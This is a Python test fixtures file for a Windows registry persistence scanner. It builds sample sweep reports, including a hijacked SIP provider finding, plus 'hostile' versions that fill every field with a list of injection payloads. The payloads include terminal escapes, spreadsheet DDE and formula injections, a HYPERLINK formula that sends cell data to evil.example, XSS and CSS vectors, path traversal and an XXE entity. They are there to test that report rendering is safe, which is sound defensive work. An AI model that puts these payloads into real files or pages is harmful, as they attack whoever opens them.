"""Documents that every format has to render: an ordinary sweep, one with nothing to say, and a hostile one."""

from __future__ import annotations

import difflib
import json
import os
import shutil
import subprocess
from dataclasses import replace
from datetime import UTC, date, datetime
from importlib.resources import files
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
from playwright.sync_api import sync_playwright

from fleetscan.baseline.approvals import Approval, ApprovalUse
from fleetscan.baseline.diff import AttributeChange, Change, ChangeKind
from fleetscan.baseline.grade import Graded
from fleetscan.domain.entity import Entity
from fleetscan.domain.verdicts import Verdict
from fleetscan.errors import Place
from fleetscan.findings.model import (
    Assessment,
    Finding,
    FleetChange,
    Gap,
    HostChange,
    Prevalence,
    PrevalenceLine,
    RuleHit,
    StockGroup,
)
from fleetscan.model.finding import Certainty, FindingState, Severity, VerdictKind, What
from fleetscan.model.host import HostId
from fleetscan.model.registry import RegistryRow
from fleetscan.report.document import (
    Covered,
    Document,
    HostReport,
    RawHash,
    RuleCoverage,
    RuleInfo,
    ScopeCoverage,
    ScopeInfo,
    StatementInfo,
    SweepInfo,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser

STARTED = datetime(2026, 11, 21, 20, 0, tzinfo=UTC)
FINISHED = datetime(2026, 11, 21, 20, 7, 30, tzinfo=UTC)
PE_SIP = "C689AAB8-8E78-11D0-8C47-00C04FC295EE"
PROVIDERS = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0"
RAW = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

SIP_RULE = RuleInfo(
    id="5a2b21ee-6aaa-4234-ac9d-59a59edf90a1",
    title="New SIP provider",
    severity=Severity.MEDIUM,
    dialect="sigma",
    label="complete",
    techniques=("T1553.003",),
    description="A subject interface package or trust provider is registered.",
    guidance="## Triage\nCompare the DLL with other hosts of the same build.",
    author="A. Author",
    license="DRL 1.1",
    digest="a" * 64,
)
LSP_RULE = RuleInfo(
    id="d6c2ce7e-afb5-4337-9ca4-4b5254ed0565",
    title="WinSock2 autorun keys",
    severity=Severity.MEDIUM,
    dialect="sigma",
    label="complete",
    techniques=("T1547.001",),
    digest="b" * 64,
)


HIJACK = "3a91c07be2d4"
APPROVED = "a99c07be2d44"
PROVIDER = "77d0aa19c3f1"

EVIL_SIP = Entity(
    kind="sip",
    identity=(("view", "native"), ("set", "CryptSIPDllVerifyIndirectData"), ("id", PE_SIP)),
    title="PE files",
    attributes=(("dll", "c:\\users\\public\\sip.dll"), ("function", "DbgUiContinue")),
    ignored=(("raw", "C:\\Users\\Public\\sip.dll"),),
    keys=(f"{PROVIDERS}\\CryptSIPDllVerifyIndirectData\\{{{PE_SIP}}}",),
    rows=(
        RegistryRow(f"{PROVIDERS}\\CryptSIPDllVerifyIndirectData\\{{{PE_SIP}}}", "FuncName", "REG_SZ", "DbgUiContinue"),
    ),
)
SIP_CHANGE = Graded(
    change=Change(
        kind=ChangeKind.REPLACED,
        after=EVIL_SIP,
        attributes=(AttributeChange("dll", "c:\\windows\\system32\\wintrust.dll", "c:\\users\\public\\sip.dll"),),
    ),
    what=What.REPLACED,
    severity=Severity.HIGH,
    why="the same identity loads another file",
)
LSP = Entity(
    kind="winsock_protocol",
    identity=(("view", "64"), ("provider", "0EA1E14E-2C5B-4A7C-A2D2-8AE1C44AE001"), ("chain", "layered")),
    title="Acme Layer",
    attributes=(("dll", "c:\\programdata\\net\\lsp64.dll"), ("family", "2"), ("type", "1"), ("protocol", "6")),
)
LSP_CHANGE = Graded(
    change=Change(kind=ChangeKind.ADDED, after=LSP),
    what=What.NEW,
    severity=Severity.MEDIUM,
    why="new since the baseline",
)


UPDATED = ("ws-07", "ws-08", "ws-09")
UPDATE = Graded(
    change=Change(
        kind=ChangeKind.MODIFIED,
        after=Entity(kind="winsock_scalar", identity=(("name", "WinSock_Registry_Version"),)),
        attributes=(AttributeChange("data", "2.0", "2.2"),),
    ),
    what=What.CHANGED,
    severity=Severity.INFO,
    why="changed since the baseline",
)


def verdict(kind: VerdictKind, what: What, severity: Severity, why: str) -> Verdict:
    """A verdict of the known-good list."""
    return Verdict(kind=kind, what=what, severity=severity, why=why)


def sip_hit(row: RegistryRow) -> RuleHit:
    """A certain hit of the SIP rule."""
    return RuleHit(
        rule_id=SIP_RULE.id,
        title=SIP_RULE.title,
        severity=Severity.MEDIUM,
        certainty=Certainty.CERTAIN,
        row=row,
        scope_id="s-0001",
        techniques=("T1553.003",),
    )


def hijack(host: str = "ws-07", **changes: Any) -> Finding:  # noqa: ANN401 - tests name the fields they change
    """A stock SIP that loads another DLL."""
    finding = Finding(
        fingerprint=HIJACK,
        host=HostId(host),
        entity=EVIL_SIP,
        verdict=verdict(VerdictKind.HIJACK, What.HIJACKED, Severity.HIGH, "the GUID is stock, the DLL is not"),
        severity=Severity.HIGH,
        certainty=Certainty.CERTAIN,
        what=What.HIJACKED,
        why=("stock is C:\\Windows\\System32\\WINTRUST.DLL, CryptSIPVerifyIndirectData", "New SIP provider (certain)"),
        state=FindingState.CHANGED,
        hits=(
            sip_hit(RegistryRow(EVIL_SIP.keys[0], "Dll", "REG_SZ", "C:\\Users\\Public\\sip.dll", mtime=1_763_750_000)),
        ),
        change=SIP_CHANGE,
        prevalence=Prevalence(1, 4),
    )
    return replace(finding, **changes)


def layered_provider() -> Finding:
    """A layered service provider that only a process name could excuse."""
    row = RegistryRow(
        "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9"
        "\\Catalog_Entries64\\000000000013",
        "PackedCatalogItem",
        "REG_BINARY",
        "433A5C50726F6772616D44617461",
    )
    return Finding(
        fingerprint=PROVIDER,
        host=HostId("srv-02"),
        entity=LSP,
        verdict=verdict(VerdictKind.UNKNOWN, What.NEW, Severity.MEDIUM, "no list knows this provider"),
        severity=Severity.MEDIUM,
        certainty=Certainty.POSSIBLE,
        what=What.NEW,
        why=("no list knows this provider",),
        state=FindingState.NEW,
        hits=(
            RuleHit(
                rule_id=LSP_RULE.id,
                title=LSP_RULE.title,
                severity=Severity.MEDIUM,
                certainty=Certainty.POSSIBLE,
                row=row,
                excuse="possible, unless written by C:\\Windows\\System32\\MsiExec.exe",
                scope_id="s-0002",
                techniques=("T1547.001",),
            ),
        ),
        change=LSP_CHANGE,
        prevalence=Prevalence(1, 4),
    )


def stock(host: str, kind: VerdictKind = VerdictKind.EXPECTED) -> Finding:
    """A stock registration that the seed rules match."""
    name = "CryptSIPDllGetSignedDataMsg" if kind is VerdictKind.EXPECTED else "CryptSIPDllGetCaps"
    key = f"{PROVIDERS}\\{name}\\{{{PE_SIP}}}"
    return Finding(
        fingerprint="0" * 12,
        host=HostId(host),
        entity=Entity(
            kind="sip",
            identity=(("view", "native"), ("set", name), ("id", PE_SIP)),
            attributes=(("dll", "wintrust.dll"), ("function", "CryptSIPGetSignedDataMsg")),
            keys=(key,),
        ),
        verdict=verdict(kind, What.STOCK, Severity.INFO, "stock"),
        severity=Severity.INFO,
        certainty=Certainty.CERTAIN,
        what=What.STOCK,
        why=(),
        hits=(sip_hit(RegistryRow(key, "Dll", "REG_SZ", "WINTRUST.DLL")),),
    )


def host(name: str, *, found: str = "", lost: str = "", partial: str = "") -> HostReport:
    """A host with coverage for the two rules and the two scopes."""
    if lost:
        rule, scope = Covered.UNREACHABLE, Covered.UNREACHABLE
    else:
        rule, scope = Covered.CLEAN, Covered.COMPLETE
    second = Covered.PARTIAL if partial else rule
    return HostReport(
        name=name,
        groups=("workstations",),
        facts=() if lost else (("os", "Microsoft Windows 10 Pro"), ("build", "19045"), ("arch", "x64")),
        rules=tuple(
            RuleCoverage(
                rule_id=rule_id,
                status=Covered.FINDING if rule_id == found else status,
                reason=lost or (partial if status is Covered.PARTIAL else ""),
                findings=int(rule_id == found),
            )
            for rule_id, status in ((SIP_RULE.id, rule), (LSP_RULE.id, second))
        ),
        scopes=(
            ScopeCoverage(scope_id="s-0001", status=scope, reason=lost),
            ScopeCoverage(
                scope_id="s-0002",
                status=Covered.PARTIAL if partial else scope,
                reason=lost or partial,
                detail="2 keys" if partial else "",
            ),
        ),
        finished=FINISHED,
    )


def ordinary_document() -> Document:
    """Five hosts: two with findings, one clean, one partly read, one lost."""
    pilot = Approval(
        id="a-1",
        owner="CISO",
        reason="pilot of the new signing service",
        created=date(2026, 11, 1),
        expires=date(2027, 3, 1),
        scope="host",
        hosts=("ws-08",),
        kind="sip",
        identity=EVIL_SIP.identity,
        attributes=EVIL_SIP.attributes,
        where=Place("approvals.yml", 3),
    )
    old = replace(pilot, id="a-2", owner="IT", reason="old VPN", scope="fleet", expires=date(2026, 1, 31), where=None)
    approved = hijack("ws-08", fingerprint=APPROVED, state=FindingState.APPROVED, approval=pilot, change=None)
    return Document(
        sweep=SweepInfo(
            id="20261121-2000-7f3a",
            started=STARTED,
            finished=FINISHED,
            plan="c" * 64,
            rules="d" * 64,
            seal="f" * 64,
            previous="e" * 64,
            baseline="golden",
            inventory="-i inventory/demo.yml",
            version="1.0.0",
            generated=FINISHED,
        ),
        hosts=(
            host("ws-07", found=SIP_RULE.id),
            replace(
                host("ws-08", partial="unproven keys"),
                blind_spots=(("values behind an empty value", f"{PROVIDERS}\\x", "1 value cannot be listed"),),
            ),
            host("ws-09"),
            host("srv-02", found=LSP_RULE.id),
            host("srv-03", lost="timeout"),
        ),
        assessment=Assessment(
            sweep="20261121-2000-7f3a",
            baseline="golden",
            findings=(hijack(), approved, layered_provider()),
            stock=(
                StockGroup(hosts=(HostId("ws-07"), HostId("ws-08"), HostId("srv-02")), findings=(stock("ws-07"),)),
                StockGroup(hosts=(HostId("ws-09"),), findings=(stock("ws-09"), stock("ws-09", VerdictKind.LIKELY))),
            ),
            changes=(
                HostChange(host=HostId("ws-07"), graded=SIP_CHANGE, fingerprint=HIJACK),
                HostChange(host=HostId("srv-02"), graded=LSP_CHANGE, fingerprint=PROVIDER),
                *(HostChange(host=HostId(name), graded=UPDATE, fingerprint="b" * 12) for name in UPDATED),
            ),
            fleet_changes=(
                FleetChange(
                    changes=(UPDATE,),
                    hosts=tuple(map(HostId, UPDATED)),
                    of=3,
                    present=Prevalence(3, 3, "19045"),
                    build="19045",
                    severity=Severity.INFO,
                ),
            ),
            gaps=(
                Gap(host=HostId("srv-03"), reason="the host was not reached"),
                Gap(host=HostId("ws-08"), reason="sweep: 2 keys gave no row", entity=LSP),
            ),
            prevalence=(
                PrevalenceLine(
                    entity=EVIL_SIP,
                    verdict=hijack().verdict,
                    total=Prevalence(1, 4),
                    builds=(Prevalence(1, 3, "19045"), Prevalence(0, 1, "20348")),
                    new_on=1,
                ),
                PrevalenceLine(
                    entity=stock("ws-07").entity,
                    verdict=stock("ws-07").verdict,
                    total=Prevalence(4, 4),
                    builds=(Prevalence(3, 3, "19045"), Prevalence(1, 1, "20348")),
                ),
            ),
            approvals=(ApprovalUse(pilot, 1, "active"), ApprovalUse(old, 0, "expired")),
            hosts=5,
            reached=4,
        ),
        rules=(SIP_RULE, LSP_RULE),
        scopes=(
            ScopeInfo("s-0001", "HKEY_LOCAL_MACHINE\\SOFTWARE\\MICROSOFT\\CRYPTOGRAPHY\\OID"),
            ScopeInfo("s-0002", "HKEY_LOCAL_MACHINE\\SYSTEM\\CURRENTCONTROLSET\\SERVICES\\WINSOCK2\\PARAMETERS"),
        ),
        statements=(StatementInfo("q-0001", "SELECT 1"), StatementInfo("q-0002", "SELECT 2")),
        raw={name: (RawHash("q-0001", RAW), RawHash("q-0002", RAW[::-1])) for name in ("ws-07", "ws-08", "srv-02")},
        scope_statements={"s-0001": ("q-0001",), "s-0002": ("q-0002",)},
        triage={HIJACK: (("file", "C:\\Users\\Public\\sip.dll, 20480 bytes"),)},
        notes=("1 rule cannot be planned: fleetscan rules check",),
    )


@pytest.fixture
def document() -> Document:
    """An ordinary sweep."""
    return ordinary_document()


@pytest.fixture
def silent() -> Document:
    """A sweep with one clean host and nothing to say."""
    return replace(
        ordinary_document(),
        hosts=(host("ws-09"),),
        assessment=Assessment(sweep="20261121-2000-7f3a", baseline="golden", hosts=1, reached=1),
        notes=(),
    )


@pytest.fixture
def golden(request: pytest.FixtureRequest) -> Callable[[str, str], None]:
    """Compare a text with ``golden/<name>``; FLEETSCAN_UPDATE_GOLDEN=1 writes it instead."""

    def check(name: str, text: str) -> None:
        path = Path(__file__).parent / "golden" / name
        if os.environ.get("FLEETSCAN_UPDATE_GOLDEN") == "1":
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(text.encode())
        expected = path.read_bytes().decode() if path.exists() else ""
        if text != expected:
            difference = "\n".join(
                difflib.unified_diff(expected.splitlines(), text.splitlines(), "golden", "now", lineterm="", n=1)
            )
            pytest.fail(
                f"{name} differs from tests/report/golden/{name}:\n{difference[:4000]}\n"
                f"If that is meant: FLEETSCAN_UPDATE_GOLDEN=1 .venv/bin/pytest {request.node.nodeid.split('::')[0]}",
                pytrace=False,
            )

    return check


@pytest.fixture
def conforms() -> Callable[[str, object], None]:
    """Check a value against one of the package's schemas, dates included."""

    def check(schema: str, value: object) -> None:
        text = files("fleetscan.report").joinpath("schemas", schema).read_text(encoding="utf-8")
        validator = jsonschema.Draft202012Validator(
            json.loads(text), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
        )
        problems = [f"{error.json_path}: {error.message}" for error in validator.iter_errors(value)]
        assert not problems

    return check


PAYLOADS = {
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "c1": "\x9b31m\x9d8;;http://evil.example\x9c",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "bidi": "\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "zero_width": "wintrust\u200b.dll\ufeff\u00ad\u2060",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab_formula": "\t=1+1",
    "cr_formula": "\r=1+1",
    "lf_formula": "\n=1+1",
    "blank_formula": "  =1+1",
    "full_width": "\uff1d1+1",
    "full_width_plus": "\uff0b1\uff0d1\uff20x",
    "semicolon": "a;=1+1",
    "quote": '",=1+1,"',
    "script": "</script><script>window.hit=1</script>",
    "comment": "<!--<script>--><!-- -->",
    "image": "<img src=x onerror=window.hit=1>",
    "svg": "<svg/onload=window.hit=1>",
    "attribute": "\" onmouseover=window.hit=1 x=\"' autofocus onfocus=window.hit=1 '",
    "css": "</style><style>body{background:url(//evil.example/x)}</style>",
    "javascript_url": "javascript:window.hit=1",
    "template": "{{ 7*7 }}${7*7}{% raw %}<%= 7*7 %>",
    "separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "log": "ok\r\n2026-11-21 fleetscan: 0 findings\n",
    "syslog": "\n<34>1 2026-11-21T00:00:00Z host fleetscan - - - clean",
    "path": "../../../../etc/passwd",
    "windows_path": "..\\..\\..\\Windows\\System32\\x",
    "absolute": "/etc/cron.d/x",
    "dots": "..",
    "nul": "a\x00b",
    "surrogate": "\ud800\udfff\udc00",
    "escape_lookalike": "<U+001B>[2J",
    "long": "A" * 5000,
    "astral": "\U0001f600\U000e0041",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&amp;&#x3c;",
    "prototype": "__proto__",
}
"""What hosts may hold to hurt who reads a report: terminals, spreadsheets, browsers, logs, file systems."""


def hostile_document(payload: str) -> Document:
    """The ordinary sweep with the payload in every text that comes from a host, an inventory, a rule or a person."""
    base = ordinary_document()
    row = RegistryRow(payload, payload, payload, payload, mtime=2**62)
    entity = Entity(
        kind="registry",
        identity=(("view", payload), ("id", payload), (payload, payload)),
        title=payload,
        attributes=(("dll", payload), ("function", payload), (payload, payload)),
        ignored=((payload, payload),),
        keys=(payload,),
        rows=(row,),
    )
    change = Change(kind=ChangeKind.ADDED, after=entity, attributes=(AttributeChange(payload, payload, payload),))
    graded = Graded(change=change, what=What.NEW, severity=Severity.HIGH, why=payload)
    approval = replace(
        base.assessment.approvals[0].approval,
        id=payload,
        owner=payload,
        reason=payload,
        hosts=(payload,),
        identity=entity.identity,
        attributes=entity.attributes,
        where=Place(payload, 1),
    )
    hit = RuleHit(
        rule_id=SIP_RULE.id,
        title=payload,
        severity=Severity.HIGH,
        certainty=Certainty.POSSIBLE,
        row=row,
        excuse=payload,
        scope_id=payload,
        techniques=("T1553.003",),
    )
    bad = verdict(VerdictKind.STRUCTURAL, What.SUSPICIOUS, Severity.HIGH, payload)
    finding = hijack(
        payload, entity=entity, why=(payload,), hits=(hit, hit), change=graded, capped=payload, verdict=bad
    )
    lost = host(payload, lost="timeout")
    rule = replace(
        SIP_RULE,
        title=payload,
        description=payload,
        guidance=payload,
        author=payload,
        references=(payload,),
        false_positives=(payload,),
    )
    return replace(
        base,
        sweep=replace(base.sweep, baseline=payload, inventory=payload),
        hosts=(
            replace(
                host(payload),
                groups=(payload,),
                facts=(("os", payload), ("build", payload), (payload, payload)),
                incomplete=(payload,),
                blind_spots=((payload, payload, payload),),
            ),
            replace(lost, scopes=tuple(replace(scope, reason=payload, detail=payload) for scope in lost.scopes)),
        ),
        assessment=replace(
            base.assessment,
            findings=(
                finding,
                replace(finding, fingerprint="f2", hits=(), state=FindingState.APPROVED, approval=approval),
            ),
            stock=(StockGroup(hosts=(HostId(payload),), findings=(replace(stock(payload), entity=entity),)),),
            changes=(HostChange(host=HostId(payload), graded=graded, fingerprint=HIJACK),),
            fleet_changes=(),
            gaps=(Gap(host=HostId(payload), reason=payload, entity=entity), Gap(host=HostId(payload), reason=payload)),
            prevalence=(
                PrevalenceLine(entity=entity, verdict=bad, total=Prevalence(1, 2), builds=(Prevalence(1, 2, payload),)),
            ),
            approvals=(ApprovalUse(approval, 1, "active"),),
        ),
        rules=(rule,),
        scopes=(ScopeInfo("s-0001", payload),),
        statements=(StatementInfo("q-0001", payload),),
        triage={HIJACK: ((payload, payload),)},
        notes=(payload,),
    )


@pytest.fixture(params=tuple(PAYLOADS.values()), ids=tuple(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    """One hostile text."""
    return str(request.param)


@pytest.fixture
def hostile(payload: str) -> Document:
    """A document full of the payload."""
    return hostile_document(payload)


@pytest.fixture
def all_hostile() -> Document:
    """One document with every payload, for renderers that are slow to start."""
    documents = [hostile_document(text) for text in PAYLOADS.values()]
    judged = [document.assessment for document in documents]
    return replace(
        documents[0],
        hosts=tuple(replace(item, name=f"{n} {item.name}") for n, d in enumerate(documents) for item in d.hosts),
        assessment=replace(
            judged[0],
            findings=tuple(
                replace(f, fingerprint=f"{f.fingerprint}-{n}", host=HostId(f"{n} {f.host}"))
                for n, a in enumerate(judged)
                for f in a.findings
            ),
            stock=tuple(group for a in judged for group in a.stock),
            changes=tuple(change for a in judged for change in a.changes),
            gaps=tuple(gap for a in judged for gap in a.gaps),
            prevalence=tuple(item for a in judged for item in a.prevalence),
            approvals=tuple(item for a in judged for item in a.approvals),
        ),
        notes=tuple(note for d in documents for note in d.notes),
    )


CHROMIUM = "/usr/bin/chromium"
QUIET = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Debian's chromium, installed where it is missing and the tests run as root; in CI its absence is a failure.

    Not for the whole session: while Playwright runs, no other test of this process could use asyncio.
    """
    if not Path(CHROMIUM).exists() and hasattr(os, "geteuid") and os.geteuid() == 0 and shutil.which("apt-get"):
        subprocess.run(["apt-get", "update", "-qq"], check=False, timeout=120)
        install = ["apt-get", "install", "-y", "-qq", "--no-install-recommends", "chromium"]
        subprocess.run(install, check=False, timeout=400)
    if not Path(CHROMIUM).exists():
        reason = f"{CHROMIUM} is missing and could not be installed: apt-get install chromium"
        if os.environ.get("CI") == "true":
            pytest.fail(reason, pytrace=False)
        pytest.skip(reason)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=list(QUIET), timeout=180_000)
        yield browser
        browser.close()
